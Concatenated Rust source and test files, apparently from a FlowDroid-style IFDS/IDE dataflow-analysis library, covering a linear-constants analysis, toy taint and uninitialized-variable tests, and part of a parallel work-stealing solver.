        } else {
            Lin::Bot
        }
    }
}

// ===================== the problem =====================

/// `None` is the zero fact; `Some(l)` tracks local `l`'s value.
type Fact = Option<Local>;

struct LinearConstants<'a> {
    icfg: Icfg<'a>,
    entry: MethodId,
}

impl LinearConstants<'_> {
    fn stmt(&self, n: StmtRef) -> &Stmt {
        self.icfg.stmt(n)
    }
}

impl IfdsProblem for LinearConstants<'_> {
    type Fact = Fact;

    fn zero(&self) -> Fact {
        None
    }

    fn initial_seeds(&self) -> Vec<(StmtRef, Fact)> {
        vec![(StmtRef::new(self.entry, 0), None)]
    }

    fn normal_flow(&self, n: StmtRef, _succ: StmtRef, d: &Fact) -> Vec<Fact> {
        match self.stmt(n) {
            Stmt::Assign { lhs: Place::Local(l), rhs } => match d {
                None => {
                    // Generate tracking for constant and linear defs.
                    match rhs {
                        Rvalue::Const(Constant::Int(_)) => vec![None, Some(*l)],
                        _ => vec![None],
                    }
                }
                Some(t) if t == l => {
                    // Self-redefinition (`t = t + 1`) threads through;
                    // anything else kills the tracking.
                    if rhs_depends_on(rhs, *t) {
                        vec![Some(*l)]
                    } else {
                        vec![]
                    }
                }
                Some(t) => {
                    let mut out = vec![Some(*t)];
                    // x = a*t + b style defs extend tracking to x.
                    if rhs_depends_on(rhs, *t) {
                        out.push(Some(*l));
                    }
                    out
                }
            },
            _ => vec![*d],
        }
    }

    fn call_flow(&self, call: StmtRef, callee: MethodId, d: &Fact) -> Vec<Fact> {
        let Some(l) = d else { return vec![None] };
        let expr = self.stmt(call).invoke_expr().expect("call");
        let m = self.icfg.program().method(callee);
        let mut out = Vec::new();
        for (i, arg) in expr.args.iter().enumerate() {
            if arg.as_local() == Some(*l) && i < m.param_count() {
                out.push(Some(m.param_local(i)));
            }
        }
        out
    }

    fn return_flow(
        &self,
        call: StmtRef,
        _callee: MethodId,
        exit: StmtRef,
        _return_site: StmtRef,
        d: &Fact,
    ) -> Vec<Fact> {
        let Some(l) = d else { return vec![] };
        if let Stmt::Return { value: Some(Operand::Local(v)) } = self.stmt(exit) {
            if v == l {
                if let Stmt::Invoke { result: Some(r), .. } = self.stmt(call) {
                    return vec![Some(*r)];
                }
            }
        }
        vec![]
    }

    fn call_to_return_flow(&self, call: StmtRef, _return_site: StmtRef, d: &Fact) -> Vec<Fact> {
        match (d, self.stmt(call)) {
            (Some(l), Stmt::Invoke { result: Some(r), .. }) if l == r => vec![],
            _ => vec![*d],
        }
    }
}

fn rhs_depends_on(rhs: &Rvalue, t: Local) -> bool {
    match rhs {
        Rvalue::Read(Place::Local(r)) => *r == t,
        Rvalue::BinOp(_, a, b) => {
            a.as_local() == Some(t) || b.as_local() == Some(t)
        }
        _ => false,
    }
}

impl IdeProblem for LinearConstants<'_> {
    type Value = Val;
    type Transfer = Lin;

    fn top(&self) -> Val {
        Val::Top
    }

    fn join_values(&self, a: &Val, b: &Val) -> Val {
        match (a, b) {
            (Val::Top, x) | (x, Val::Top) => x.clone(),
            (x, y) if x == y => x.clone(),
            _ => Val::Bottom,
        }
    }

    fn initial_value(&self) -> Val {
        Val::Top
    }

    fn normal_transfer(&self, n: StmtRef, d: &Fact, _succ: StmtRef, d2: &Fact) -> Lin {
        let Stmt::Assign { lhs: Place::Local(l), rhs } = self.stmt(n) else { return Lin::Id };
        // Only edges that *define* the target fact carry a non-identity
        // function.
        if d2 != &Some(*l) {
            return Lin::Id;
        }
        match (d, rhs) {
            (None, Rvalue::Const(Constant::Int(c))) => Lin::ConstFn(*c),
            (Some(t), Rvalue::Read(Place::Local(r))) if r == t => Lin::Id,
            (Some(t), Rvalue::BinOp(op, a, b)) => {
                let (coeff, konst) = match (op, a, b) {
                    (BinOp::Add, x, Operand::Const(Constant::Int(c)))
                        if x.as_local() == Some(*t) =>
                    {
                        (1, *c)
                    }
                    (BinOp::Add, Operand::Const(Constant::Int(c)), x)
                        if x.as_local() == Some(*t) =>
                    {
                        (1, *c)
                    }
                    (BinOp::Mul, x, Operand::Const(Constant::Int(c)))
                        if x.as_local() == Some(*t) =>
                    {
                        (*c, 0)
                    }
                    (BinOp::Mul, Operand::Const(Constant::Int(c)), x)
                        if x.as_local() == Some(*t) =>
                    {
                        (*c, 0)
                    }
                    (BinOp::Sub, x, Operand::Const(Constant::Int(c)))
                        if x.as_local() == Some(*t) =>
                    {
                        (1, -*c)
                    }
                    _ => return Lin::Bot,
                };
                Lin::Linear(coeff, konst)
            }
            _ => Lin::Bot,
        }
    }

    fn call_transfer(&self, _c: StmtRef, _m: MethodId, _d: &Fact, _d2: &Fact) -> Lin {
        Lin::Id
    }

    fn return_transfer(
        &self,
        _c: StmtRef,
        _m: MethodId,
        _e: StmtRef,
        _d: &Fact,
        _d2: &Fact,
    ) -> Lin {
        Lin::Id
    }

    fn call_to_return_transfer(&self, _c: StmtRef, _d: &Fact, _d2: &Fact) -> Lin {
        Lin::Id
    }
}

// ===================== tests =====================

/// ```text
/// static int scale(int p) { return p * 3 + 1; }   (as IR arithmetic)
/// main:
///   a = 7
///   b = a + 2        // 9
///   c = scale(b)     // 28
///   d = 5
///   if * goto other
///   d = 5            // same constant on both paths → still 5
/// other:
///   nop              // query point
/// ```
fn build() -> (Program, MethodId, Local, Local, Local, Local) {
    let mut p = Program::new();
    let cls = p.declare_class("LC", None, &[]);
    let mut sb = MethodBuilder::new_static_on(&mut p, cls, "scale", vec![Type::Int], Type::Int);
    let param = sb.param(0);
    let t = sb.local("t", Type::Int);
    sb.assign_local(t, Rvalue::BinOp(BinOp::Mul, param.into(), Operand::Const(Constant::Int(3))));
    sb.assign_local(t, Rvalue::BinOp(BinOp::Add, t.into(), Operand::Const(Constant::Int(1))));
    sb.ret(Some(t.into()));
    sb.finish();

    let mut b = MethodBuilder::new_static_on(&mut p, cls, "main", vec![], Type::Void);
    let a = b.local("a", Type::Int);
    let bb = b.local("b", Type::Int);
    let c = b.local("c", Type::Int);
    let d = b.local("d", Type::Int);
    b.assign_local(a, Rvalue::Const(Constant::Int(7)));
    b.assign_local(bb, Rvalue::BinOp(BinOp::Add, a.into(), Operand::Const(Constant::Int(2))));
    b.call_static(Some(c), "LC", "scale", vec![Type::Int], Type::Int, vec![bb.into()]);
    b.assign_local(d, Rvalue::Const(Constant::Int(5)));
    let other = b.fresh_label();
    b.if_opaque(other);
    b.assign_local(d, Rvalue::Const(Constant::Int(5)));
    b.bind(other);
    b.nop();
    let main = b.finish();
    (p, main, a, bb, c, d)
}

#[test]
fn linear_constants_through_calls_and_branches() {
    let (p, main, a, b, c, d) = build();
    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = LinearConstants { icfg, entry: main };
    let results = IdeSolver::new(&icfg, &problem).solve();
    let body = p.method(main).body().unwrap();
    let query = StmtRef::new(main, body.len() - 2); // the nop
    assert_eq!(results.value_at(query, &Some(a)), Val::Const(7));
    assert_eq!(results.value_at(query, &Some(b)), Val::Const(9), "7 + 2");
    assert_eq!(results.value_at(query, &Some(c)), Val::Const(28), "9 * 3 + 1 through the call");
    assert_eq!(results.value_at(query, &Some(d)), Val::Const(5), "same constant on both paths");
}

#[test]
fn conflicting_branch_constants_go_to_bottom() {
    let mut p = Program::new();
    let cls = p.declare_class("LC2", None, &[]);
    let mut b = MethodBuilder::new_static_on(&mut p, cls, "main", vec![], Type::Void);
    let x = b.local("x", Type::Int);
    let alt = b.fresh_label();
    let merge = b.fresh_label();
    b.assign_local(x, Rvalue::Const(Constant::Int(1)));
    b.if_opaque(alt);
    b.assign_local(x, Rvalue::Const(Constant::Int(2)));
    b.goto(merge);
    b.bind(alt);
    b.assign_local(x, Rvalue::Const(Constant::Int(3)));
    b.bind(merge);
    b.nop();
    let main = b.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = LinearConstants { icfg, entry: main };
    let results = IdeSolver::new(&icfg, &problem).solve();
    let body = p.method(main).body().unwrap();
    let query = StmtRef::new(main, body.len() - 2);
    assert_eq!(
        results.value_at(query, &Some(x)),
        Val::Bottom,
        "2 on one path, 3 on the other"
    );
}

#[test]
fn edge_function_algebra() {
    // compose: (λv.2v+1) then (λv.3v+2) = λv.6v+5
    let f = Lin::Linear(2, 1);
    let g = Lin::Linear(3, 2);
    assert_eq!(f.compose(&g), Lin::Linear(6, 5));
    assert_eq!(f.compose(&Lin::Id), f);
    assert_eq!(Lin::Id.compose(&g), g);
    assert_eq!(Lin::ConstFn(4).compose(&Lin::Linear(3, 2)), Lin::ConstFn(14));
    assert_eq!(f.join(&f), f);
    assert_eq!(f.join(&g), Lin::Bot);
    // apply
    assert_eq!(Lin::Linear(2, 1).apply(&Val::Const(5)), Val::Const(11));
    assert_eq!(Lin::Linear(2, 1).apply(&Val::Top), Val::Top);
    assert_eq!(Lin::Bot.apply(&Val::Const(5)), Val::Bottom);
}
