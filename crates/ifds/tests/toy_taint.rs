//! Integration tests: a minimal local-variable taint problem exercising
//! the IFDS solver's summaries, context sensitivity and fixpoints.

use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
use flowdroid_ifds::{IfdsProblem, ParallelSolver, Solver};
use flowdroid_ir::{
    Local, MethodBuilder, MethodId, Operand, Place, Program, Rvalue, Stmt, StmtRef, Type,
};

/// Fact: `None` is the zero fact, `Some(l)` means local `l` is tainted.
type Fact = Option<Local>;

struct ToyTaint<'a> {
    icfg: Icfg<'a>,
    entry: MethodId,
}

impl ToyTaint<'_> {
    fn stmt(&self, n: StmtRef) -> &Stmt {
        self.icfg.stmt(n)
    }

    fn is_source_call(&self, n: StmtRef) -> bool {
        let Some(call) = self.stmt(n).invoke_expr() else { return false };
        let p = self.icfg.program();
        p.str(call.callee.subsig.name) == "source"
    }
}

impl IfdsProblem for ToyTaint<'_> {
    type Fact = Fact;

    fn zero(&self) -> Fact {
        None
    }

    fn initial_seeds(&self) -> Vec<(StmtRef, Fact)> {
        vec![(StmtRef::new(self.entry, 0), None)]
    }

    fn normal_flow(&self, n: StmtRef, _succ: StmtRef, d: &Fact) -> Vec<Fact> {
        match self.stmt(n) {
            Stmt::Assign { lhs: Place::Local(lhs), rhs } => {
                let mut out = Vec::new();
                if d != &Some(*lhs) {
                    out.push(*d); // survives unless overwritten
                }
                if let (Some(t), Rvalue::Read(Place::Local(r))) = (d, rhs) {
                    if t == r {
                        out.push(Some(*lhs));
                    }
                }
                out
            }
            _ => vec![*d],
        }
    }

    fn call_flow(&self, call: StmtRef, callee: MethodId, d: &Fact) -> Vec<Fact> {
        let Some(t) = d else { return vec![None] };
        let expr = self.stmt(call).invoke_expr().expect("call stmt");
        let m = self.icfg.program().method(callee);
        let mut out = Vec::new();
        for (i, arg) in expr.args.iter().enumerate() {
            if arg.as_local() == Some(*t) {
                out.push(Some(m.param_local(i)));
            }
        }
        out
    }

    fn return_flow(
        &self,
        call: StmtRef,
        _callee: MethodId,
        exit: StmtRef,
        _return_site: StmtRef,
        d: &Fact,
    ) -> Vec<Fact> {
        let Some(t) = d else { return vec![None] };
        let mut out = Vec::new();
        if let Stmt::Return { value: Some(Operand::Local(r)) } = self.stmt(exit) {
            if r == t {
                if let Stmt::Invoke { result: Some(res), .. } = self.stmt(call) {
                    out.push(Some(*res));
                }
            }
        }
        out
    }

    fn call_to_return_flow(&self, call: StmtRef, _return_site: StmtRef, d: &Fact) -> Vec<Fact> {
        let mut out = vec![*d];
        // Generate taint at source() calls from the zero fact.
        if d.is_none() && self.is_source_call(call) {
            if let Stmt::Invoke { result: Some(res), .. } = self.stmt(call) {
                out.push(Some(*res));
            }
        }
        // Kill the result local otherwise (it is overwritten by the call).
        if let (Some(t), Stmt::Invoke { result: Some(res), .. }) = (d, self.stmt(call)) {
            if t == res {
                out.retain(|f| f != &Some(*res));
            }
        }
        out
    }
}

/// Declares stub `Env.source()` and `Env.sink(String)` methods.
fn declare_env(p: &mut Program) {
    let env = p.declare_class("Env", None, &[]);
    let s = p.ref_type("java.lang.String");
    let src = p.declare_method(env, "source", vec![], s.clone(), true);
    p.set_native(src, true);
    let snk = p.declare_method(env, "sink", vec![s], Type::Void, true);
    p.set_native(snk, true);
}

fn string_ty(p: &mut Program) -> Type {
    p.ref_type("java.lang.String")
}

/// Finds all `sink(...)` call sites and the taint fact of their argument.
fn sink_arg_tainted(icfg: &Icfg<'_>, results: &flowdroid_ifds::IfdsResults<Fact>, m: MethodId) -> Vec<bool> {
    let p = icfg.program();
    let body = p.method(m).body().unwrap();
    let mut out = Vec::new();
    for (i, s) in body.stmts().iter().enumerate() {
        if let Some(call) = s.invoke_expr() {
            if p.str(call.callee.subsig.name) == "sink" {
                let arg = call.args[0].as_local().unwrap();
                out.push(results.holds_at(StmtRef::new(m, i), &Some(arg)));
            }
        }
    }
    out
}

#[test]
fn context_sensitivity_no_cross_context_leak() {
    // String id(String x) { return x; }
    // main: s = source(); a = id(s); b = id("c"); sink(a); sink(b);
    let mut p = Program::new();
    declare_env(&mut p);
    let c = p.declare_class("Main", None, &[]);
    let st = string_ty(&mut p);

    let mut ib = MethodBuilder::new_static_on(&mut p, c, "id", vec![st.clone()], st.clone());
    let x = ib.param(0);
    ib.ret(Some(x.into()));
    ib.finish();

    let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
    let s = mb.local("s", st.clone());
    let a = mb.local("a", st.clone());
    let b = mb.local("b", st.clone());
    mb.call_static(Some(s), "Env", "source", vec![], st.clone(), vec![]);
    mb.call_static(Some(a), "Main", "id", vec![st.clone()], st.clone(), vec![s.into()]);
    let cst = mb.program().intern("c");
    mb.call_static(
        Some(b),
        "Main",
        "id",
        vec![st.clone()],
        st.clone(),
        vec![Operand::Const(flowdroid_ir::Constant::Str(cst))],
    );
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![a.into()]);
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![b.into()]);
    let main = mb.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = ToyTaint { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();

    assert_eq!(sink_arg_tainted(&icfg, &results, main), vec![true, false]);
}

#[test]
fn taint_generated_inside_callee_returns_to_caller() {
    // String get() { t = source(); return t; }
    // main: x = get(); sink(x);
    let mut p = Program::new();
    declare_env(&mut p);
    let c = p.declare_class("Main", None, &[]);
    let st = string_ty(&mut p);

    let mut gb = MethodBuilder::new_static_on(&mut p, c, "get", vec![], st.clone());
    let t = gb.local("t", st.clone());
    gb.call_static(Some(t), "Env", "source", vec![], st.clone(), vec![]);
    gb.ret(Some(t.into()));
    gb.finish();

    let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
    let x = mb.local("x", st.clone());
    mb.call_static(Some(x), "Main", "get", vec![], st.clone(), vec![]);
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![x.into()]);
    let main = mb.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = ToyTaint { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();

    assert_eq!(sink_arg_tainted(&icfg, &results, main), vec![true]);
}

#[test]
fn recursion_reaches_fixed_point() {
    // String rec(String x) { if * return rec(x); return x; }
    // main: s = source(); y = rec(s); sink(y);
    let mut p = Program::new();
    declare_env(&mut p);
    let c = p.declare_class("Main", None, &[]);
    let st = string_ty(&mut p);

    let mut rb = MethodBuilder::new_static_on(&mut p, c, "rec", vec![st.clone()], st.clone());
    let x = rb.param(0);
    let r = rb.local("r", st.clone());
    let out = rb.fresh_label();
    rb.if_opaque(out);
    rb.call_static(Some(r), "Main", "rec", vec![st.clone()], st.clone(), vec![x.into()]);
    rb.ret(Some(r.into()));
    rb.bind(out);
    rb.ret(Some(x.into()));
    rb.finish();

    let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
    let s = mb.local("s", st.clone());
    let y = mb.local("y", st.clone());
    mb.call_static(Some(s), "Env", "source", vec![], st.clone(), vec![]);
    mb.call_static(Some(y), "Main", "rec", vec![st.clone()], st.clone(), vec![s.into()]);
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![y.into()]);
    let main = mb.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = ToyTaint { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();

    assert_eq!(sink_arg_tainted(&icfg, &results, main), vec![true]);
}

/// The parallel solver reaches the identical fixed point as the
/// sequential solver (the paper's Heros is multi-threaded).
#[test]
fn parallel_solver_matches_sequential() {
    let mut p = Program::new();
    declare_env(&mut p);
    let c = p.declare_class("Main", None, &[]);
    let st = string_ty(&mut p);

    let mut ib = MethodBuilder::new_static_on(&mut p, c, "id", vec![st.clone()], st.clone());
    let x = ib.param(0);
    ib.ret(Some(x.into()));
    ib.finish();

    let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
    let s = mb.local("s", st.clone());
    let a = mb.local("a", st.clone());
    let b = mb.local("b", st.clone());
    mb.call_static(Some(s), "Env", "source", vec![], st.clone(), vec![]);
    mb.call_static(Some(a), "Main", "id", vec![st.clone()], st.clone(), vec![s.into()]);
    let cst = mb.program().intern("c");
    mb.call_static(
        Some(b),
        "Main",
        "id",
        vec![st.clone()],
        st.clone(),
        vec![Operand::Const(flowdroid_ir::Constant::Str(cst))],
    );
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![a.into()]);
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![b.into()]);
    let main = mb.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = ToyTaint { icfg, entry: main };
    let sequential = Solver::new(&icfg, &problem).solve();
    for threads in [1, 2, 4, 8] {
        let parallel = ParallelSolver::new(&icfg, &problem, threads).solve();
        // Identical fact sets at every reached statement.
        let mut seq_stmts: Vec<_> = sequential.reached_stmts().collect();
        seq_stmts.sort();
        let mut par_stmts: Vec<_> = parallel.reached_stmts().collect();
        par_stmts.sort();
        assert_eq!(seq_stmts, par_stmts, "threads={threads}");
        for n in sequential.reached_stmts() {
            let mut a: Vec<_> = sequential.facts_at(*n).to_vec();
            let mut b: Vec<_> = parallel.facts_at(*n).to_vec();
            a.sort_by_key(|f| format!("{f:?}"));
            b.sort_by_key(|f| format!("{f:?}"));
            assert_eq!(a, b, "facts at {n:?} with {threads} threads");
        }
        assert_eq!(
            sequential.propagation_count(),
            parallel.propagation_count(),
            "the fixed point is unique (threads={threads})"
        );
    }
    assert_eq!(sink_arg_tainted(&icfg, &sequential, main), vec![true, false]);
}

#[test]
fn overwrite_kills_taint() {
    // main: s = source(); s = "clean"; sink(s);
    let mut p = Program::new();
    declare_env(&mut p);
    let c = p.declare_class("Main", None, &[]);
    let st = string_ty(&mut p);
    let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
    let s = mb.local("s", st.clone());
    mb.call_static(Some(s), "Env", "source", vec![], st.clone(), vec![]);
    let clean = mb.program().intern("clean");
    mb.assign_local(s, Rvalue::Const(flowdroid_ir::Constant::Str(clean)));
    mb.call_static(None, "Env", "sink", vec![st.clone()], Type::Void, vec![s.into()]);
    let main = mb.finish();

    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = ToyTaint { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();

    assert_eq!(sink_arg_tainted(&icfg, &results, main), vec![false]);
}
