//! A second, classic IFDS problem — possibly-uninitialized variables
//! (the example problem of Reps–Horwitz–Sagiv 1995) — demonstrating
//! that the solver is a generic framework, not taint-specific.

use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
use flowdroid_ifds::{IfdsProblem, Solver};
use flowdroid_ir::{
    Constant, Local, MethodBuilder, MethodId, Operand, Place, Program, Rvalue, Stmt, StmtRef,
    Type,
};

/// `None` = zero fact; `Some(l)` = local `l` is possibly uninitialized.
type Fact = Option<Local>;

struct UninitVars<'a> {
    icfg: Icfg<'a>,
    entry: MethodId,
}

impl UninitVars<'_> {
    fn defines(&self, n: StmtRef) -> Option<Local> {
        match self.icfg.stmt(n) {
            Stmt::Assign { lhs: Place::Local(l), .. } => Some(*l),
            Stmt::Invoke { result: Some(l), .. } => Some(*l),
            _ => None,
        }
    }
}

impl IfdsProblem for UninitVars<'_> {
    type Fact = Fact;

    fn zero(&self) -> Fact {
        None
    }

    fn initial_seeds(&self) -> Vec<(StmtRef, Fact)> {
        // At entry, every non-parameter local is possibly uninitialized.
        let m = self.icfg.program().method(self.entry);
        let body = m.body().expect("entry body");
        let first_var = m.param_count() + usize::from(!m.is_static());
        let sp = StmtRef::new(self.entry, 0);
        let mut seeds = vec![(sp, None)];
        for i in first_var..body.locals().len() {
            seeds.push((sp, Some(Local(i as u32))));
        }
        seeds
    }

    fn normal_flow(&self, n: StmtRef, _succ: StmtRef, d: &Fact) -> Vec<Fact> {
        match (d, self.defines(n)) {
            (Some(l), Some(def)) if *l == def => vec![], // initialized here
            _ => vec![*d],
        }
    }

    fn call_flow(&self, call: StmtRef, callee: MethodId, d: &Fact) -> Vec<Fact> {
        // A possibly-uninitialized local passed as an argument makes the
        // parameter possibly uninitialized.
        let Some(l) = d else { return vec![None] };
        let expr = self.icfg.stmt(call).invoke_expr().expect("call");
        let m = self.icfg.program().method(callee);
        let mut out = Vec::new();
        for (i, arg) in expr.args.iter().enumerate() {
            if arg.as_local() == Some(*l) && i < m.param_count() {
                out.push(Some(m.param_local(i)));
            }
        }
        out
    }

    fn return_flow(
        &self,
        call: StmtRef,
        _callee: MethodId,
        exit: StmtRef,
        _return_site: StmtRef,
        d: &Fact,
    ) -> Vec<Fact> {
        // Returning a possibly-uninitialized value makes the result
        // possibly uninitialized.
        let Some(l) = d else { return vec![] };
        if let Stmt::Return { value: Some(Operand::Local(v)) } = self.icfg.stmt(exit) {
            if v == l {
                if let Stmt::Invoke { result: Some(r), .. } = self.icfg.stmt(call) {
                    return vec![Some(*r)];
                }
            }
        }
        vec![]
    }

    fn call_to_return_flow(&self, call: StmtRef, _return_site: StmtRef, d: &Fact) -> Vec<Fact> {
        match (d, self.defines(call)) {
            (Some(l), Some(def)) if *l == def => vec![],
            _ => vec![*d],
        }
    }
}

/// Builds:
/// ```text
/// static int pick(int p) { return p; }
/// static void main() {
///   let a, b, c: int
///   a = 1
///   if * goto skip          // b assigned on one path only
///   b = 2
/// skip:
///   c = pick(b)             // b possibly uninit -> c possibly uninit
///   nop                     // query point
/// }
/// ```
fn build() -> (Program, MethodId, Local, Local, Local) {
    let mut p = Program::new();
    let cls = p.declare_class("U", None, &[]);
    let mut pb = MethodBuilder::new_static_on(&mut p, cls, "pick", vec![Type::Int], Type::Int);
    let param = pb.param(0);
    pb.ret(Some(param.into()));
    pb.finish();

    let mut b = MethodBuilder::new_static_on(&mut p, cls, "main", vec![], Type::Void);
    let a = b.local("a", Type::Int);
    let bb = b.local("b", Type::Int);
    let c = b.local("c", Type::Int);
    b.assign_local(a, Rvalue::Const(Constant::Int(1)));
    let skip = b.fresh_label();
    b.if_opaque(skip);
    b.assign_local(bb, Rvalue::Const(Constant::Int(2)));
    b.bind(skip);
    b.call_static(Some(c), "U", "pick", vec![Type::Int], Type::Int, vec![bb.into()]);
    b.nop();
    let main = b.finish();
    (p, main, a, bb, c)
}

#[test]
fn branch_dependent_initialization() {
    let (p, main, a, b, c) = build();
    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = UninitVars { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();
    // Query at the trailing nop (statement 5).
    let query = StmtRef::new(main, 5);
    assert!(!results.holds_at(query, &Some(a)), "a is definitely initialized");
    assert!(results.holds_at(query, &Some(b)), "b is possibly uninitialized (one path)");
    assert!(
        results.holds_at(query, &Some(c)),
        "c inherits possible-uninit through the call"
    );
}

#[test]
fn all_locals_uninitialized_at_entry() {
    let (p, main, a, b, c) = build();
    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    let icfg = Icfg::new(&p, &cg);
    let problem = UninitVars { icfg, entry: main };
    let results = Solver::new(&icfg, &problem).solve();
    let entry = StmtRef::new(main, 0);
    for l in [a, b, c] {
        assert!(results.holds_at(entry, &Some(l)));
    }
}
