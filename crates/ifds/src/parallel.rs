//! A multi-threaded IFDS solver (the paper's Heros is "a scalable,
//! highly multi-threaded implementation of the IFDS framework", §5).
//!
//! The tabulation algorithm is monotone — path edges, summaries and
//! incoming sets only grow — so edges can be processed in any order and
//! concurrently, as long as the table updates are atomic with respect
//! to each other. The solver composes two reusable pieces:
//!
//! * [`ConcurrentTabulator`] — path-edge, end-summary and incoming
//!   tables behind independently locked shards;
//! * [`WorkStealScheduler`] — a per-method-sharded, work-stealing job
//!   queue with exact termination detection (replacing the single
//!   global worklist lock of the first implementation). Edges are
//!   sharded by their target statement's method, so one method's edges
//!   cluster on one queue and stay cache-warm on one worker; idle
//!   workers steal batches from other shards.
//!
//! Determinism note: the *result set* equals the sequential solver's
//! (the fixed point is unique); only discovery order differs. The
//! FlowDroid core's parallel taint engine builds on the same two pieces
//! and additionally canonicalizes provenance for bit-identical reports.

use crate::concurrent::ConcurrentTabulator;
use crate::drive::{drive, WorkerState, DEFAULT_SPILL};
use crate::problem::IfdsProblem;
use crate::scheduler::{WorkStealScheduler, DEFAULT_BATCH, DEFAULT_SHARDS};
use crate::solver::IfdsResults;
use flowdroid_callgraph::Icfg;
use flowdroid_ir::StmtRef;

/// A pending path edge `(d1, n, d2)`.
type Job<F> = (F, StmtRef, F);

/// Per-worker state for the generic solver: just the local pending
/// buffer the shared drive loop spills from.
struct GenWorker<F> {
    pending: Vec<Job<F>>,
}

impl<F> WorkerState<Job<F>> for GenWorker<F> {
    fn pending(&mut self) -> &mut Vec<Job<F>> {
        &mut self.pending
    }
}

/// A parallel IFDS solver over `threads` workers.
#[derive(Debug)]
pub struct ParallelSolver<'a, P: IfdsProblem> {
    icfg: &'a Icfg<'a>,
    problem: &'a P,
    threads: usize,
}

impl<'a, P> ParallelSolver<'a, P>
where
    P: IfdsProblem + Sync,
    P::Fact: Send + Sync,
{
    /// Creates a solver with the given worker count (at least 1).
    pub fn new(icfg: &'a Icfg<'a>, problem: &'a P, threads: usize) -> Self {
        ParallelSolver { icfg, problem, threads: threads.max(1) }
    }

    /// Runs the tabulation to its (unique) fixed point.
    pub fn solve(&self) -> IfdsResults<P::Fact> {
        let tab: ConcurrentTabulator<P::Fact> = ConcurrentTabulator::new();
        let sched: WorkStealScheduler<Job<P::Fact>> =
            WorkStealScheduler::new(DEFAULT_SHARDS, DEFAULT_BATCH);
        for (n, d) in self.problem.initial_seeds() {
            if tab.record_edge(&d, n, &d) {
                sched.push(sched.shard_for(&n.method), (d.clone(), n, d));
            }
        }
        drive(
            &sched,
            self.threads,
            DEFAULT_SPILL,
            None,
            |_| GenWorker { pending: Vec::new() },
            |job: &Job<P::Fact>| sched.shard_for(&job.1.method),
            |w, (d1, n, d2)| {
                self.process(&tab, &mut w.pending, d1, n, d2);
                true
            },
        );
        let propagations = tab.propagation_count();
        IfdsResults::from_parts(tab.into_facts(), propagations)
    }

    /// Records the edge and buffers it for processing if new.
    fn propagate(
        &self,
        tab: &ConcurrentTabulator<P::Fact>,
        pending: &mut Vec<Job<P::Fact>>,
        d1: P::Fact,
        n: StmtRef,
        d2: P::Fact,
    ) {
        if tab.record_edge(&d1, n, &d2) {
            pending.push((d1, n, d2));
        }
    }

    fn process(
        &self,
        tab: &ConcurrentTabulator<P::Fact>,
        pending: &mut Vec<Job<P::Fact>>,
        d1: P::Fact,
        n: StmtRef,
        d2: P::Fact,
    ) {
        let icfg = self.icfg;
        let problem = self.problem;
        let callees = icfg.callees_of_call(n);
        let is_call = icfg.is_call(n);
        if is_call && !callees.is_empty() {
            for &callee in callees {
                let starts = icfg.start_points_of(callee);
                for d3 in problem.call_flow(n, callee, &d2) {
                    tab.add_incoming(callee, &d3, n, &d2);
                    for &sp in &starts {
                        self.propagate(tab, pending, d3.clone(), sp, d3.clone());
                    }
                    for (exit, d4) in tab.summaries_for(callee, &d3) {
                        for ret_site in icfg.return_sites_of_call(n) {
                            for d5 in problem.return_flow(n, callee, exit, ret_site, &d4) {
                                self.propagate(tab, pending, d1.clone(), ret_site, d5);
                            }
                        }
                    }
                }
            }
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                    self.propagate(tab, pending, d1.clone(), ret_site, d3);
                }
            }
        } else if icfg.is_exit(n) {
            let callee = icfg.method_of(n);
            if tab.install_summary(callee, &d1, n, &d2) {
                for (call_site, d4) in tab.incoming_for(callee, &d1) {
                    // The caller contexts depend only on (call_site, d4):
                    // read them once per context, not once per returned
                    // fact. Contexts recorded later are covered by the
                    // call side, which reads summaries after registering
                    // incoming.
                    let d3s = tab.d1s_at(call_site, &d4);
                    for ret_site in icfg.return_sites_of_call(call_site) {
                        for d5 in problem.return_flow(call_site, callee, n, ret_site, &d2) {
                            for d3 in &d3s {
                                self.propagate(tab, pending, d3.clone(), ret_site, d5.clone());
                            }
                        }
                    }
                }
            } else {
                // The summary existed; incoming entries added since then
                // are handled by the call side (it reads summaries after
                // registering incoming).
            }
        } else if is_call {
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
